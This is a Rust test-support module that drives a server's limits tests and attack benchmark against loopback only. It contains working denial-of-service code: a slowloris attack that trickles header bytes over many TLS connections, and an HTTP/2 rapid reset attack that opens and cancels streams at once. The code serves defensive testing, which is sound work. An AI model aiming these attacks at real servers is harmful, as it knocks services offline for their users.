//! Attacks the limits tests and the attack benchmark (benches/attacks.rs) both run, bounded
//! in count and time and aimed at loopback only.

use super::{connect_from, tls_over_pem};
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// A slowloris attack on its own thread and runtime (on the caller's runtime its wake-ups
/// would delay the caller's own measurements): `n` connections from 127.0.1.1–200, TLS done
/// with `sni` (trusting `ca_pem`), each sending a request head and then one header byte
/// every 300 ms, spread over the period as independent clients would be. Each gives up
/// after `give_up` or 55 bytes. The receiver fires once every connection is open; the
/// thread returns, per connection, how long after its start the server cut it (`None`:
/// never cut).
pub fn slowloris(
    ca_pem: String,
    target: SocketAddr,
    sni: &'static str,
    n: u32,
    give_up: Duration,
) -> (
    tokio::sync::oneshot::Receiver<Instant>,
    std::thread::JoinHandle<Vec<Option<Duration>>>,
) {
    let (ready_tx, ready_rx) = tokio::sync::oneshot::channel();
    let thread = std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(async move {
            let mut conns = Vec::with_capacity(n as usize);
            for i in 0..n {
                let tcp = connect_from([127, 0, 1, (i % 200) as u8 + 1], target)
                    .await
                    .unwrap();
                conns.push(
                    tls_over_pem(&ca_pem, tcp, sni, &["http/1.1"])
                        .await
                        .unwrap(),
                );
            }
            let _ = ready_tx.send(Instant::now());
            let spread = Duration::from_millis(300) / n.max(1);
            let head = format!("GET / HTTP/1.1\r\nHost: {sni}\r\nX-Slow: ");
            let mut attackers = Vec::with_capacity(n as usize);
            for (i, mut tls) in conns.into_iter().enumerate() {
                let head = head.clone();
                attackers.push(tokio::spawn(async move {
                    let start = Instant::now();
                    let _ = tls.write_all(head.as_bytes()).await;
                    tokio::time::sleep(spread * i as u32).await;
                    for _ in 0..55 {
                        tokio::time::sleep(Duration::from_millis(300)).await;
                        if tls.write_all(b"a").await.is_err() || tls.flush().await.is_err() {
                            return Some(start.elapsed());
                        }
                        if start.elapsed() > give_up {
                            break;
                        }
                    }
                    let mut b = [0u8; 256];
                    match tokio::time::timeout(Duration::from_secs(1), tls.read(&mut b)).await {
                        Ok(Ok(_)) | Ok(Err(_)) => Some(start.elapsed()),
                        Err(_) => None,
                    }
                }));
            }
            let mut out = Vec::with_capacity(n as usize);
            for a in attackers {
                out.push(a.await.unwrap());
            }
            out
        })
    });
    (ready_rx, thread)
}

/// `rounds` rounds of `n` requests alternating between two sites (a client and a URL
/// each); the p99 of every round, in seconds, for the first site and for the second.
/// Alternating puts both under the same moment of a shared VM, whose stalls of several
/// milliseconds come and go over seconds.
pub async fn p99_paired(
    a: (&reqwest::Client, &str),
    b: (&reqwest::Client, &str),
    rounds: usize,
    n: usize,
) -> (Vec<f64>, Vec<f64>) {
    async fn one(c: &reqwest::Client, url: &str) -> f64 {
        let s = Instant::now();
        let r = c.get(url).send().await.unwrap();
        assert_eq!(r.status(), 200);
        r.bytes().await.unwrap();
        s.elapsed().as_secs_f64()
    }
    let p99 = |mut t: Vec<f64>| {
        t.sort_by(|x, y| x.partial_cmp(y).unwrap());
        t[(t.len() * 99 / 100).min(t.len() - 1)]
    };
    let (mut pa, mut pb) = (Vec::new(), Vec::new());
    for _ in 0..rounds {
        let (mut ta, mut tb) = (Vec::with_capacity(n), Vec::with_capacity(n));
        for _ in 0..n {
            ta.push(one(a.0, a.1).await);
            tb.push(one(b.0, b.1).await);
        }
        pa.push(p99(ta));
        pb.push(p99(tb));
    }
    (pa, pb)
}

/// Seconds as milliseconds with two decimals, for printing.
pub fn ms(v: &[f64]) -> Vec<String> {
    v.iter().map(|x| format!("{:.2}", x * 1e3)).collect()
}

/// What an HTTP/2 rapid reset achieved.
#[derive(Debug)]
pub struct RapidReset {
    /// Streams opened and cancelled before the server ended the connection (or the bound).
    pub sent: usize,
    /// The connection ended with an HTTP/2 error (the server's GOAWAY) within 5 s after.
    pub goaway: bool,
    /// How the connection task ended, for the log.
    pub ended: String,
}

/// HTTP/2 rapid reset against `target` (TLS with `sni`, trusting `ca`): streams opened and
/// cancelled at once, as fast as the client can, at most `max_streams` or 10 s, until the
/// server ends the connection.
pub async fn rapid_reset(
    ca: &super::TestCa,
    target: SocketAddr,
    sni: &str,
    max_streams: usize,
) -> RapidReset {
    let tls = super::tls_connect(ca, target, sni, &["h2"]).await;
    let (mut h2c, conn) = h2::client::handshake(tls).await.unwrap();
    let conn_task = tokio::spawn(conn);
    let started = Instant::now();
    let url = format!("https://{sni}:{}/", target.port());
    let mut sent = 0;
    while sent < max_streams
        && started.elapsed() < Duration::from_secs(10)
        && !conn_task.is_finished()
    {
        let ready = match tokio::time::timeout(Duration::from_secs(2), h2c.clone().ready()).await {
            Ok(Ok(r)) => r,
            _ => break,
        };
        h2c = ready;
        let req = http::Request::get(url.as_str()).body(()).unwrap();
        match h2c.send_request(req, true) {
            Ok((resp, _)) => {
                drop(resp); // RST_STREAM(CANCEL) right away
                tokio::task::yield_now().await;
            }
            Err(_) => break,
        }
        sent += 1;
    }
    let ended = tokio::time::timeout(Duration::from_secs(5), conn_task).await;
    RapidReset {
        sent,
        goaway: matches!(ended, Ok(Ok(Err(_)))),
        ended: format!("{ended:?}"),
    }
}
